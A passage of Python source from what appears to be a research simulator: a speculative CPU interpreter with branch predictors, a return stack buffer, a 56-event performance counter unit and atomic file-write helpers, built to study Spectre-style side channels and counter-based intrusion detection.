        self.hits += 1
        return target

    def update(self, pc, target):
        """Record the resolved target of the transfer at *pc*."""
        self._targets[pc] = target
        self._targets.move_to_end(pc)
        if len(self._targets) > self.entries:
            self._targets.popitem(last=False)

    def reset(self):
        self._targets.clear()
