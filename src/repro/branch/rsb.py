"""Return stack buffer (RSB).

``call`` pushes the architectural return address onto this hidden
hardware stack; ``ret`` pops it as the *prediction*.  When the software
stack has been tampered with (exactly what the ROP payload does) the RSB
prediction and the architectural return address disagree — which both
(a) makes every ROP gadget boundary a mispredicted return, and (b) is
the mechanism behind the Spectre-RSB variant [Koruyeh et al., WOOT'18]
where wrong-path execution continues at the *RSB-predicted* address.
"""


class ReturnStackBuffer:
    """Fixed-depth circular return-address predictor."""

    def __init__(self, depth=16):
        if depth <= 0:
            raise ValueError("RSB depth must be positive")
        self.depth = depth
        self._stack = []
        self.hits = 0
        self.misses = 0
        self.overflows = 0
        self.underflows = 0

    def push(self, return_address):
        """Record a call's return address."""
        if len(self._stack) == self.depth:
            # Circular behaviour: the oldest entry is lost.
            self._stack.pop(0)
            self.overflows += 1
        self._stack.append(return_address)

    def predict(self):
        """Pop the predicted return target (None if empty)."""
        if not self._stack:
            self.underflows += 1
            return None
        return self._stack.pop()

    def record_outcome(self, correct):
        """Account a resolved return against the prediction."""
        if correct:
            self.hits += 1
        else:
            self.misses += 1

    @property
    def occupancy(self):
        return len(self._stack)

    def reset(self):
        self._stack.clear()
