"""Composite branch prediction unit: BHT + BTB + RSB."""

import dataclasses

from repro.branch.bht import BranchHistoryTable
from repro.branch.btb import BranchTargetBuffer
from repro.branch.rsb import ReturnStackBuffer


@dataclasses.dataclass(frozen=True)
class PredictorConfig:
    bht_entries: int = 1024
    btb_entries: int = 256
    rsb_depth: int = 16


class BranchPredictor:
    """Front-end predictor the speculative executor consults.

    The CPU asks three questions:

    * conditional branch at *pc*: taken or not (:meth:`predict_conditional`)
    * indirect transfer at *pc*: predicted target (:meth:`predict_indirect`)
    * return: predicted return address (:meth:`predict_return`)

    and reports resolved outcomes back for training.
    """

    def __init__(self, config=None):
        self.config = config or PredictorConfig()
        self.bht = BranchHistoryTable(self.config.bht_entries)
        self.btb = BranchTargetBuffer(self.config.btb_entries)
        self.rsb = ReturnStackBuffer(self.config.rsb_depth)
        self.conditional_predictions = 0
        self.conditional_mispredictions = 0
        self.indirect_predictions = 0
        self.indirect_mispredictions = 0
        self.return_predictions = 0
        self.return_mispredictions = 0

    # ---- conditional branches ------------------------------------------
    def predict_conditional(self, pc):
        return self.bht.predict(pc)

    def resolve_conditional(self, pc, predicted, taken):
        """Train the BHT; returns True when the prediction was wrong."""
        self.conditional_predictions += 1
        self.bht.update(pc, taken)
        mispredicted = predicted != taken
        if mispredicted:
            self.conditional_mispredictions += 1
        return mispredicted

    # ---- indirect jumps / calls ------------------------------------------
    def predict_indirect(self, pc):
        return self.btb.predict(pc)

    def resolve_indirect(self, pc, predicted, target):
        self.indirect_predictions += 1
        self.btb.update(pc, target)
        mispredicted = predicted != target
        if mispredicted:
            self.indirect_mispredictions += 1
        return mispredicted

    # ---- calls / returns ---------------------------------------------------
    def on_call(self, return_address):
        self.rsb.push(return_address)

    def predict_return(self):
        return self.rsb.predict()

    def resolve_return(self, predicted, target):
        self.return_predictions += 1
        mispredicted = predicted != target
        self.rsb.record_outcome(not mispredicted)
        if mispredicted:
            self.return_mispredictions += 1
        return mispredicted

    # ---- totals -------------------------------------------------------------
    @property
    def total_mispredictions(self):
        return (
            self.conditional_mispredictions
            + self.indirect_mispredictions
            + self.return_mispredictions
        )

    def reset(self):
        self.bht.reset()
        self.btb.reset()
        self.rsb.reset()
