"""Branch prediction: BHT, BTB, RSB and the composite predictor."""

from repro.branch.bht import (
    BranchHistoryTable,
    STRONG_NOT_TAKEN,
    STRONG_TAKEN,
    WEAK_NOT_TAKEN,
    WEAK_TAKEN,
)
from repro.branch.btb import BranchTargetBuffer
from repro.branch.predictor import BranchPredictor, PredictorConfig
from repro.branch.rsb import ReturnStackBuffer

__all__ = [
    "BranchHistoryTable",
    "STRONG_NOT_TAKEN",
    "STRONG_TAKEN",
    "WEAK_NOT_TAKEN",
    "WEAK_TAKEN",
    "BranchTargetBuffer",
    "BranchPredictor",
    "PredictorConfig",
    "ReturnStackBuffer",
]
