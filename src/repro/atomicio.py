"""Atomic file writes: temp file + ``os.replace`` in the target dir.

Every artefact this package persists (experiment checkpoints, benchmark
tables, HPC trace CSVs) goes through these helpers so a killed run never
leaves a truncated file behind — readers either see the old complete
content or the new complete content, nothing in between.
"""

import json
import os
import tempfile


def atomic_write_text(path, text, encoding="utf-8"):
    """Write *text* to *path* atomically; returns the byte count."""
    path = os.fspath(path)
    directory = os.path.dirname(path) or "."
    data = text.encode(encoding)
    fd, tmp_path = tempfile.mkstemp(
        dir=directory, prefix=os.path.basename(path) + ".", suffix=".tmp"
    )
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(tmp_path, path)
    except BaseException:
        try:
            os.unlink(tmp_path)
        except OSError:
            pass
        raise
    return len(data)


def atomic_write_json(path, obj, **dumps_kwargs):
    """Serialise *obj* as JSON and write it atomically."""
    dumps_kwargs.setdefault("indent", 1)
    dumps_kwargs.setdefault("sort_keys", True)
    return atomic_write_text(path, json.dumps(obj, **dumps_kwargs) + "\n")


def append_jsonl(path, obj):
    """Append one JSON object as a single line to an append-only file.

    The record is serialised first and written with one ``os.write`` on
    an ``O_APPEND`` descriptor, so concurrent appenders interleave at
    line granularity and a killed writer can leave at most one torn
    *final* line — which :func:`read_jsonl_tolerant` skips.  This is
    the durability model the fleet journal uses, shared here for the
    bench-history ledger.  Returns the byte count written.
    """
    path = os.fspath(path)
    line = json.dumps(obj, sort_keys=True,
                      separators=(",", ":")) + "\n"
    data = line.encode("utf-8")
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
    try:
        os.write(fd, data)
        os.fsync(fd)
    finally:
        os.close(fd)
    return len(data)


def read_jsonl_tolerant(path):
    """Read a JSONL file, skipping blank and torn (unparseable) lines.

    Appenders using :func:`append_jsonl` can only tear the final line,
    but readers tolerate damage anywhere — an observability file must
    never take the tooling down with it.  Returns a list of objects.
    """
    records = []
    try:
        with open(path, "r", encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if not line:
                    continue
                try:
                    records.append(json.loads(line))
                except ValueError:
                    continue
    except FileNotFoundError:
        return []
    return records
