"""Atomic file writes: temp file + ``os.replace`` in the target dir.

Every artefact this package persists (experiment checkpoints, benchmark
tables, HPC trace CSVs) goes through these helpers so a killed run never
leaves a truncated file behind — readers either see the old complete
content or the new complete content, nothing in between.
"""

import json
import os
import tempfile


def atomic_write_text(path, text, encoding="utf-8"):
    """Write *text* to *path* atomically; returns the byte count."""
    path = os.fspath(path)
    directory = os.path.dirname(path) or "."
    data = text.encode(encoding)
    fd, tmp_path = tempfile.mkstemp(
        dir=directory, prefix=os.path.basename(path) + ".", suffix=".tmp"
    )
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(tmp_path, path)
    except BaseException:
        try:
            os.unlink(tmp_path)
        except OSError:
            pass
        raise
    return len(data)


def atomic_write_json(path, obj, **dumps_kwargs):
    """Serialise *obj* as JSON and write it atomically."""
    dumps_kwargs.setdefault("indent", 1)
    dumps_kwargs.setdefault("sort_keys", True)
    return atomic_write_text(path, json.dumps(obj, **dumps_kwargs) + "\n")
