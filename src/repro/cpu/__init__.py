"""CPU: speculative interpreter, PMU, architectural state, shadow stack."""

from repro.cpu.cpu import Cpu, CpuConfig
from repro.cpu.pmu import EVENT_NAMES, NUM_EVENTS, PAPER_FEATURES, Pmu
from repro.cpu.shadow_stack import ShadowStack
from repro.cpu.state import CpuState, to_signed, to_unsigned

__all__ = [
    "Cpu",
    "CpuConfig",
    "EVENT_NAMES",
    "NUM_EVENTS",
    "PAPER_FEATURES",
    "Pmu",
    "ShadowStack",
    "CpuState",
    "to_signed",
    "to_unsigned",
]
