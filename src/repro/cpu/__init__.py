"""CPU: speculative interpreter, PMU, architectural state, shadow stack."""

from repro.cpu.cpu import Cpu, CpuConfig
from repro.cpu.engine import (
    ENGINE_MODES,
    engine_mode,
    engine_override,
    set_engine_mode,
)
from repro.cpu.pmu import EVENT_NAMES, NUM_EVENTS, PAPER_FEATURES, Pmu
from repro.cpu.shadow_stack import ShadowStack
from repro.cpu.state import CpuState, to_signed, to_unsigned
from repro.cpu.superblock import SuperblockEngine

__all__ = [
    "Cpu",
    "CpuConfig",
    "ENGINE_MODES",
    "EVENT_NAMES",
    "NUM_EVENTS",
    "PAPER_FEATURES",
    "Pmu",
    "ShadowStack",
    "SuperblockEngine",
    "CpuState",
    "engine_mode",
    "engine_override",
    "set_engine_mode",
    "to_signed",
    "to_unsigned",
]
