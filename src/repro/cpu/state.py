"""Architectural CPU state: registers + program counter."""

from repro.isa.registers import NUM_REGISTERS, REGISTER_NAMES, SP, ZERO

MASK32 = 0xFFFFFFFF


def to_signed(value):
    """Interpret a 32-bit unsigned value as signed."""
    value &= MASK32
    return value - 0x100000000 if value >= 0x80000000 else value


def to_unsigned(value):
    """Wrap any Python int into the unsigned 32-bit range."""
    return value & MASK32


class CpuState:
    """Registers, PC and the halted flag.

    Registers are stored as unsigned 32-bit ints; ``r0`` reads as zero
    and ignores writes (enforced by :meth:`write_reg`).
    """

    __slots__ = ("regs", "pc", "halted", "exit_code")

    def __init__(self):
        self.regs = [0] * NUM_REGISTERS
        self.pc = 0
        self.halted = False
        self.exit_code = None

    def read_reg(self, index):
        return self.regs[index]

    def write_reg(self, index, value):
        if index != ZERO:
            self.regs[index] = value & MASK32

    @property
    def sp(self):
        return self.regs[SP]

    @sp.setter
    def sp(self, value):
        self.regs[SP] = value & MASK32

    def copy_regs(self):
        """Snapshot the register file (used by the speculative executor)."""
        return list(self.regs)

    def dump(self):
        """Readable register dump for debugging."""
        rows = [
            f"{REGISTER_NAMES[i]:>4} = {self.regs[i]:#010x}"
            for i in range(NUM_REGISTERS)
        ]
        rows.append(f"  pc = {self.pc:#010x}")
        return "\n".join(rows)
