"""Performance monitoring unit: the 56 hardware performance events.

The paper records 56 events offline and lets the HID select 1..16 of
them (Fig. 4); the six headline features are::

    total_cache_misses, total_cache_accesses, branch_instructions,
    branch_mispredictions, instructions, cycles

The PMU composes its reading from three places: counters it increments
itself (instruction mix, stalls, speculation), the cache hierarchy's
per-level stats, and the predictor/TLB structures.  :meth:`read` returns
the full 56-event dict; :meth:`snapshot`/:meth:`delta_since` implement
the sampling the profiler uses.
"""

# The canonical, ordered catalogue of the 56 events.
EVENT_NAMES = (
    # --- instruction mix (15) ---
    "instructions",
    "alu_instructions",
    "mul_div_instructions",
    "load_instructions",
    "store_instructions",
    "branch_instructions",
    "cond_branch_instructions",
    "branches_taken",
    "call_instructions",
    "ret_instructions",
    "indirect_jump_instructions",
    "syscall_instructions",
    "clflush_instructions",
    "mfence_instructions",
    "stack_instructions",
    # --- cycles & stalls (4) ---
    "cycles",
    "memory_stall_cycles",
    "mispredict_penalty_cycles",
    "fence_stall_cycles",
    # --- branch prediction (7) ---
    "branch_mispredictions",
    "cond_branch_mispredictions",
    "return_mispredictions",
    "indirect_mispredictions",
    "btb_hits",
    "btb_misses",
    "rsb_overflows",
    # --- L1 data cache (9) ---
    "l1d_accesses",
    "l1d_hits",
    "l1d_misses",
    "l1d_read_accesses",
    "l1d_read_misses",
    "l1d_write_accesses",
    "l1d_write_misses",
    "l1d_evictions",
    "l1d_writebacks",
    # --- L1 instruction cache (3) ---
    "l1i_accesses",
    "l1i_hits",
    "l1i_misses",
    # --- unified L2 (5) ---
    "l2_accesses",
    "l2_hits",
    "l2_misses",
    "l2_evictions",
    "l2_writebacks",
    # --- hierarchy totals (3) ---
    "total_cache_accesses",
    "total_cache_hits",
    "total_cache_misses",
    # --- TLBs (6) ---
    "dtlb_accesses",
    "dtlb_hits",
    "dtlb_misses",
    "itlb_accesses",
    "itlb_hits",
    "itlb_misses",
    # --- speculation (4) ---
    "spec_instructions",
    "spec_loads",
    "spec_cache_fills",
    "squashed_instructions",
)

NUM_EVENTS = len(EVENT_NAMES)
assert NUM_EVENTS == 56, f"expected 56 PMU events, have {NUM_EVENTS}"

#: The six features the paper trains its HID on (Section III-A).
PAPER_FEATURES = (
    "total_cache_misses",
    "total_cache_accesses",
    "branch_instructions",
    "branch_mispredictions",
    "instructions",
    "cycles",
)

# Events the PMU itself owns (everything not derived from a structure).
_DIRECT_EVENTS = (
    "instructions",
    "alu_instructions",
    "mul_div_instructions",
    "load_instructions",
    "store_instructions",
    "branch_instructions",
    "cond_branch_instructions",
    "branches_taken",
    "call_instructions",
    "ret_instructions",
    "indirect_jump_instructions",
    "syscall_instructions",
    "clflush_instructions",
    "mfence_instructions",
    "stack_instructions",
    "memory_stall_cycles",
    "mispredict_penalty_cycles",
    "fence_stall_cycles",
    "spec_instructions",
    "spec_loads",
    "spec_cache_fills",
    "squashed_instructions",
)


class Pmu:
    """Composes the 56-event reading for one CPU."""

    def __init__(self, cpu):
        self._cpu = cpu
        self.counters = {name: 0 for name in _DIRECT_EVENTS}

    def read(self):
        """Return the current cumulative value of all 56 events."""
        cpu = self._cpu
        caches = cpu.caches
        predictor = cpu.predictor
        l1d, l1i, l2 = caches.l1d.stats, caches.l1i.stats, caches.l2.stats
        counters = self.counters
        values = dict(counters)
        values["cycles"] = int(cpu.cycles)
        values["branch_mispredictions"] = predictor.total_mispredictions
        values["cond_branch_mispredictions"] = (
            predictor.conditional_mispredictions
        )
        values["return_mispredictions"] = predictor.return_mispredictions
        values["indirect_mispredictions"] = predictor.indirect_mispredictions
        values["btb_hits"] = predictor.btb.hits
        values["btb_misses"] = predictor.btb.misses
        values["rsb_overflows"] = predictor.rsb.overflows
        values["l1d_accesses"] = l1d.accesses
        values["l1d_hits"] = l1d.hits
        values["l1d_misses"] = l1d.misses
        values["l1d_read_accesses"] = l1d.read_accesses
        values["l1d_read_misses"] = l1d.read_misses
        values["l1d_write_accesses"] = l1d.write_accesses
        values["l1d_write_misses"] = l1d.write_misses
        values["l1d_evictions"] = l1d.evictions
        values["l1d_writebacks"] = l1d.writebacks
        values["l1i_accesses"] = l1i.accesses
        values["l1i_hits"] = l1i.hits
        values["l1i_misses"] = l1i.misses
        # Per-hierarchy L2 attribution (correct even with a shared L2);
        # evictions/writebacks come from the array itself, so under a
        # shared L2 they are machine-wide — documented in DESIGN.md.
        local_l2 = caches.l2_stats
        values["l2_accesses"] = local_l2.accesses
        values["l2_hits"] = local_l2.hits
        values["l2_misses"] = local_l2.misses
        values["l2_evictions"] = l2.evictions
        values["l2_writebacks"] = l2.writebacks
        values["total_cache_accesses"] = l1d.accesses + l1i.accesses
        values["total_cache_hits"] = l1d.hits + l1i.hits
        values["total_cache_misses"] = l1d.misses + l1i.misses
        values["dtlb_accesses"] = cpu.dtlb.hits + cpu.dtlb.misses
        values["dtlb_hits"] = cpu.dtlb.hits
        values["dtlb_misses"] = cpu.dtlb.misses
        values["itlb_accesses"] = cpu.itlb.hits + cpu.itlb.misses
        values["itlb_hits"] = cpu.itlb.hits
        values["itlb_misses"] = cpu.itlb.misses
        return values

    def snapshot(self):
        """Cheap cumulative snapshot usable with :meth:`delta_since`."""
        return self.read()

    def delta_since(self, snapshot):
        """Event deltas between *snapshot* and now (one profiler sample)."""
        current = self.read()
        return {name: current[name] - snapshot[name] for name in EVENT_NAMES}

    @property
    def ipc(self):
        """Retired instructions per cycle (Table I metric)."""
        cycles = self._cpu.cycles
        if cycles <= 0:
            return 0.0
        return self.counters["instructions"] / cycles
