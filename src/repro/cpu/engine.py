"""Ambient execution-engine selection for the interpreter cores.

Three engines execute the same ISA behind the same ``CpuCore``
contract, and all three are bit-exact with :meth:`Cpu.step` (the
differential suites in ``tests/cpu/`` pin this):

``step``
    The readable reference: one :meth:`Cpu.step` call per retired
    instruction.  Slowest; used for differential testing and as the
    deopt target of the other two.
``fast``
    The locals-bound interpreter loop in :meth:`Cpu.run` — PR 4's
    ~8-11x over the seed interpreter.
``sb``
    The superblock translation engine (the default): the fast loop plus
    a per-PC cache of compiled basic-block closures
    (:mod:`repro.cpu.superblock`).

The mode is *ambient*, resolved once per ``Cpu`` at construction like
the tracer and profiler, and is deliberately **not** part of the
experiment configuration: it never enters manifests, run ids or cell
cache keys, so ``repro compare`` between a superblock run and a
step-loop run of the same experiment exits 0 — that byte-parity *is*
the engine's acceptance test.

:func:`set_engine_mode` mirrors the choice into ``REPRO_ENGINE`` so
spawn-based pool and dist workers (which import this module fresh)
inherit the driver's engine.
"""

import contextlib
import os

#: Recognised engine names, in deopt order (sb deopts to the step loop).
ENGINE_MODES = ("step", "fast", "sb")

#: Environment variable consulted at import; how the driver's choice
#: propagates to spawn-based pool/dist workers.
ENGINE_ENV_VAR = "REPRO_ENGINE"

DEFAULT_ENGINE = "sb"


def _from_env():
    value = os.environ.get(ENGINE_ENV_VAR, "").strip().lower()
    return value if value in ENGINE_MODES else DEFAULT_ENGINE


_mode = _from_env()


def engine_mode():
    """The ambient engine for cores constructed from now on."""
    return _mode


def set_engine_mode(mode):
    """Select the ambient engine; propagates to spawned workers.

    Returns the previous mode.  Raises ``ValueError`` on unknown names
    so a CLI typo fails loudly instead of silently running the default.
    """
    global _mode
    if mode not in ENGINE_MODES:
        raise ValueError(
            f"unknown engine {mode!r}; choose from {', '.join(ENGINE_MODES)}"
        )
    previous = _mode
    _mode = mode
    os.environ[ENGINE_ENV_VAR] = mode
    return previous


@contextlib.contextmanager
def engine_override(mode):
    """Run a ``with`` block under *mode*, then restore the previous one."""
    previous = set_engine_mode(mode)
    try:
        yield
    finally:
        set_engine_mode(previous)
