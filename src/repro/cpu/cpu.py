"""The speculative CPU: an interpreter with a bounded wrong-path window.

Execution model
---------------
Instructions commit in order.  Control transfers consult the branch
predictor (BHT / BTB / RSB); on a misprediction the CPU first executes up
to ``spec_window`` *wrong-path* instructions starting at the predicted
target.  Wrong-path execution works on a shadow register file and a store
buffer, so architectural state is squashed afterwards — but instruction
and data fetches performed on the wrong path still fill the caches and
TLBs.  That persistence is precisely the Spectre channel the paper (and
Kocher et al.) exploit, so it is modelled faithfully rather than faked.

Timing model
------------
A width-``issue_width`` superscalar is approximated by charging
``1/issue_width`` cycles per simple instruction, plus real penalties for
memory-hierarchy misses, branch mispredictions, fences, and long-latency
arithmetic.  ``rdcycle`` exposes the cycle counter to software, which is
what the covert channel's flush+reload timer reads.
"""

import dataclasses

from repro.branch.predictor import BranchPredictor
from repro.cache.hierarchy import CacheHierarchy
from repro.cpu.pmu import Pmu
from repro.cpu.shadow_stack import ShadowStack
from repro.cpu.state import CpuState, to_signed
from repro.errors import (
    CpuFault,
    EncodingError,
    MemoryFault,
    PrivilegeFault,
    ShadowStackViolation,
)
from repro.isa.encoding import INSTRUCTION_SIZE, decode
from repro.isa.opcodes import Opcode
from repro.mem.tlb import Tlb
from repro.obs.tracer import current_tracer

MASK32 = 0xFFFFFFFF

_OP = Opcode  # local alias to shorten the dispatch code


@dataclasses.dataclass(frozen=True)
class CpuConfig:
    """Microarchitectural knobs.

    ``shadow_stack`` and ``clflush_privileged`` implement two of the
    paper's Section-IV countermeasures.
    """

    issue_width: int = 4
    spec_window: int = 48
    mispredict_penalty: float = 14.0
    btb_miss_penalty: float = 8.0
    mul_extra: float = 1.0
    div_extra: float = 3.0
    fence_latency: float = 8.0
    clflush_latency: float = 6.0
    syscall_latency: float = 40.0
    shadow_stack: bool = False
    clflush_privileged: bool = False
    #: InvisiSpec-style defense (Yan et al., MICRO'18; discussed by the
    #: paper): wrong-path loads are serviced from an invisible buffer
    #: and never fill the caches, so a squash leaves no trace — the
    #: covert channel's transmit side goes dark.
    invisible_speculation: bool = False


def _truncdiv(numerator, denominator):
    """C-style truncating integer division (rounds toward zero)."""
    quotient = abs(numerator) // abs(denominator)
    if (numerator < 0) != (denominator < 0):
        quotient = -quotient
    return quotient


def _alu_rrr(opcode, a, b):
    """32-bit register-register ALU semantics."""
    if opcode == _OP.ADD:
        return (a + b) & MASK32
    if opcode == _OP.SUB:
        return (a - b) & MASK32
    if opcode == _OP.MUL:
        return (a * b) & MASK32
    if opcode == _OP.DIV:
        if b == 0:
            return MASK32
        return _truncdiv(to_signed(a), to_signed(b)) & MASK32
    if opcode == _OP.MOD:
        if b == 0:
            return a
        sa, sb = to_signed(a), to_signed(b)
        return (sa - sb * _truncdiv(sa, sb)) & MASK32
    if opcode == _OP.AND:
        return a & b
    if opcode == _OP.OR:
        return a | b
    if opcode == _OP.XOR:
        return a ^ b
    if opcode == _OP.SHL:
        return (a << (b & 31)) & MASK32
    if opcode == _OP.SHR:
        return a >> (b & 31)
    if opcode == _OP.SRA:
        return (to_signed(a) >> (b & 31)) & MASK32
    if opcode == _OP.SLT:
        return 1 if to_signed(a) < to_signed(b) else 0
    if opcode == _OP.SLTU:
        return 1 if a < b else 0
    raise AssertionError(f"not an RRR opcode: {opcode}")


def _alu_rri(opcode, a, imm):
    """32-bit register-immediate ALU semantics."""
    if opcode == _OP.ADDI:
        return (a + imm) & MASK32
    if opcode == _OP.MULI:
        return (a * imm) & MASK32
    if opcode == _OP.ANDI:
        return a & (imm & MASK32)
    if opcode == _OP.ORI:
        return a | (imm & MASK32)
    if opcode == _OP.XORI:
        return a ^ (imm & MASK32)
    if opcode == _OP.SHLI:
        return (a << (imm & 31)) & MASK32
    if opcode == _OP.SHRI:
        return a >> (imm & 31)
    if opcode == _OP.SRAI:
        return (to_signed(a) >> (imm & 31)) & MASK32
    if opcode == _OP.SLTI:
        return 1 if to_signed(a) < imm else 0
    raise AssertionError(f"not an RRI opcode: {opcode}")


def _branch_taken(opcode, a, b):
    if opcode == _OP.BEQ:
        return a == b
    if opcode == _OP.BNE:
        return a != b
    if opcode == _OP.BLT:
        return to_signed(a) < to_signed(b)
    if opcode == _OP.BGE:
        return to_signed(a) >= to_signed(b)
    if opcode == _OP.BLTU:
        return a < b
    if opcode == _OP.BGEU:
        return a >= b
    raise AssertionError(f"not a branch opcode: {opcode}")


class Cpu:
    """One simulated hardware thread."""

    def __init__(self, memory, caches=None, predictor=None, config=None):
        self.memory = memory
        self.caches = caches or CacheHierarchy()
        self.predictor = predictor or BranchPredictor()
        self.config = config or CpuConfig()
        self.state = CpuState()
        self.dtlb = Tlb()
        self.itlb = Tlb()
        self.pmu = Pmu(self)
        self.cycles = 0.0
        self.shadow_stack = ShadowStack() if self.config.shadow_stack else None
        self.kernel_mode = False
        self.syscall_handler = None
        #: optional instruction-budget guard (duck-typed: needs .charge);
        #: see :class:`repro.core.resilience.watchdog.Watchdog`
        self.watchdog = None
        self._decode_cache = {}
        self._base_cost = 1.0 / self.config.issue_width
        self._l1_latency = self.caches.config.l1_latency
        self._last_iline = -1
        self._last_ipage = -1
        # Tracing: channels bind once, here; every emission site below
        # guards with ``is not None`` and all of those sites sit on cold
        # sub-paths (mispredict, violation), so the disabled default
        # adds nothing to the hot step loop.
        tracer = current_tracer()
        if tracer.enabled:
            self._tracer = tracer
            self.trace_clk = tracer.register_clock(self._cycles_now)
            self._tr_cpu = tracer.channel("cpu", self.trace_clk)
            self._tr_kernel = tracer.channel("kernel", self.trace_clk)
            cache_channel = tracer.channel("cache", self.trace_clk)
            if cache_channel is not None:
                self.caches.bind_tracer(cache_channel)
        else:
            self._tracer = None
            self.trace_clk = 0
            self._tr_cpu = None
            self._tr_kernel = None

    def _cycles_now(self):
        """This CPU's virtual clock, as read by its trace channels."""
        return int(self.cycles)

    # ------------------------------------------------------------------
    # helpers
    # ------------------------------------------------------------------
    def reset_for_exec(self):
        """Flush decode/translation state after ``execve`` remaps memory."""
        self._decode_cache.clear()
        self._last_iline = -1
        self._last_ipage = -1
        self.dtlb.flush()
        self.itlb.flush()
        if self.shadow_stack is not None:
            self.shadow_stack.reset()
        self.predictor.rsb.reset()

    def _fetch(self, pc):
        instruction = self._decode_cache.get(pc)
        if instruction is None:
            blob = self.memory.fetch(pc, INSTRUCTION_SIZE)
            try:
                instruction = decode(blob)
            except EncodingError as exc:
                raise CpuFault(f"illegal instruction at {pc:#010x}: {exc}")
            self._decode_cache[pc] = instruction
        line = pc >> 6
        if line != self._last_iline:
            self._last_iline = line
            result = self.caches.instruction_access(pc)
            extra = result.latency - self._l1_latency
            if extra > 0:
                self.cycles += extra
                self.pmu.counters["memory_stall_cycles"] += extra
        page = pc >> 12
        if page != self._last_ipage:
            self._last_ipage = page
            self.itlb.access(pc)
        return instruction

    def _charge_data_access(self, address, is_write):
        self.dtlb.access(address)
        result = self.caches.data_access(address, is_write)
        extra = result.latency - self._l1_latency
        if extra > 0:
            self.cycles += extra
            self.pmu.counters["memory_stall_cycles"] += extra

    def _push_word(self, value):
        state = self.state
        sp = (state.sp - 4) & MASK32
        state.sp = sp
        self.memory.store_word(sp, value)
        self._charge_data_access(sp, True)

    def _pop_word(self):
        state = self.state
        sp = state.sp
        value = self.memory.load_word(sp)
        self._charge_data_access(sp, False)
        state.sp = (sp + 4) & MASK32
        return value

    def _mispredict(self, wrong_path_pc):
        """Charge the penalty and run the wrong path speculatively."""
        trace = self._tr_cpu
        ts0 = trace.now() if trace is not None else 0
        penalty = self.config.mispredict_penalty
        self.cycles += penalty
        self.pmu.counters["mispredict_penalty_cycles"] += int(penalty)
        if wrong_path_pc is not None:
            executed = self._speculate(wrong_path_pc)
            if trace is not None:
                # One span per speculative window: enter at the branch,
                # squash after *executed* wrong-path instructions.
                trace.complete("cpu.speculate", ts0,
                               pc=self.state.pc, target=wrong_path_pc,
                               squashed=executed)
                self._tracer.metrics.observe(
                    "cpu.speculate.squashed", executed
                )
        elif trace is not None:
            trace.event("cpu.mispredict", pc=self.state.pc)

    # ------------------------------------------------------------------
    # wrong-path (speculative) execution
    # ------------------------------------------------------------------
    def _speculate(self, start_pc):
        """Execute the wrong path; only cache/TLB fills persist."""
        regs = self.state.copy_regs()
        store_buffer = {}
        counters = self.pmu.counters
        memory = self.memory
        caches = self.caches
        pc = start_pc
        executed = 0

        for _ in range(self.config.spec_window):
            try:
                instruction = self._decode_cache.get(pc)
                if instruction is None:
                    blob = memory.fetch(pc, INSTRUCTION_SIZE)
                    instruction = decode(blob)
                    self._decode_cache[pc] = instruction
                # Wrong-path fetch fills the I-cache / ITLB too.
                caches.instruction_access(pc)
                self.itlb.access(pc)
            except (MemoryFault, EncodingError):
                break

            executed += 1
            counters["spec_instructions"] += 1
            op = instruction.opcode
            next_pc = (pc + INSTRUCTION_SIZE) & MASK32

            if op == _OP.LW or op == _OP.LB:
                address = (regs[instruction.rs1] + instruction.imm) & MASK32
                counters["spec_loads"] += 1
                if self.config.invisible_speculation:
                    # Serviced from the speculative buffer: data flows to
                    # the wrong path, but no cache line is installed.
                    pass
                else:
                    self.dtlb.access(address)
                    result = caches.data_access(address, False)
                    if not result.hit:
                        counters["spec_cache_fills"] += 1
                key = (address, 4 if op == _OP.LW else 1)
                if key in store_buffer:
                    value = store_buffer[key]
                else:
                    try:
                        if op == _OP.LW:
                            value = memory.load_word(address)
                        else:
                            value = memory.load_byte(address)
                    except MemoryFault:
                        # Faulting wrong-path loads are suppressed; the
                        # cache fill above already happened, as on real
                        # hardware with a physically-mapped probe array.
                        break
                if instruction.rd != 0:
                    regs[instruction.rd] = value & MASK32
            elif op == _OP.SW or op == _OP.SB:
                address = (regs[instruction.rs1] + instruction.imm) & MASK32
                size = 4 if op == _OP.SW else 1
                store_buffer[(address, size)] = regs[instruction.rs2] & (
                    MASK32 if size == 4 else 0xFF
                )
                self.dtlb.access(address)
                caches.data_access(address, True)
            elif _OP.ADD <= op <= _OP.SLTU:
                if instruction.rd != 0:
                    regs[instruction.rd] = _alu_rrr(
                        op, regs[instruction.rs1], regs[instruction.rs2]
                    )
            elif _OP.ADDI <= op <= _OP.SLTI:
                if instruction.rd != 0:
                    regs[instruction.rd] = _alu_rri(
                        op, regs[instruction.rs1], instruction.imm
                    )
            elif op == _OP.LI:
                if instruction.rd != 0:
                    regs[instruction.rd] = instruction.imm & MASK32
            elif op == _OP.MOV:
                if instruction.rd != 0:
                    regs[instruction.rd] = regs[instruction.rs1]
            elif _OP.BEQ <= op <= _OP.BGEU:
                # Nested branches resolve immediately on the wrong path.
                if _branch_taken(op, regs[instruction.rs1],
                                 regs[instruction.rs2]):
                    next_pc = (pc + instruction.imm) & MASK32
            elif op == _OP.JMP:
                next_pc = (pc + instruction.imm) & MASK32
            elif op == _OP.JMPR:
                next_pc = (regs[instruction.rs1] + instruction.imm) & MASK32
            elif op == _OP.CALL or op == _OP.CALLR:
                return_address = next_pc
                sp = (regs[13] - 4) & MASK32
                regs[13] = sp
                store_buffer[(sp, 4)] = return_address
                if op == _OP.CALL:
                    next_pc = (pc + instruction.imm) & MASK32
                else:
                    next_pc = (regs[instruction.rs1] + instruction.imm) & MASK32
            elif op == _OP.RET:
                sp = regs[13]
                key = (sp, 4)
                if key in store_buffer:
                    target = store_buffer[key]
                else:
                    try:
                        target = memory.load_word(sp)
                    except MemoryFault:
                        break
                regs[13] = (sp + 4) & MASK32
                next_pc = target & MASK32
            elif op == _OP.PUSH:
                sp = (regs[13] - 4) & MASK32
                regs[13] = sp
                store_buffer[(sp, 4)] = regs[instruction.rs1]
                caches.data_access(sp, True)
            elif op == _OP.POP:
                sp = regs[13]
                key = (sp, 4)
                if key in store_buffer:
                    value = store_buffer[key]
                else:
                    try:
                        value = memory.load_word(sp)
                    except MemoryFault:
                        break
                caches.data_access(sp, False)
                regs[13] = (sp + 4) & MASK32
                if instruction.rd != 0:
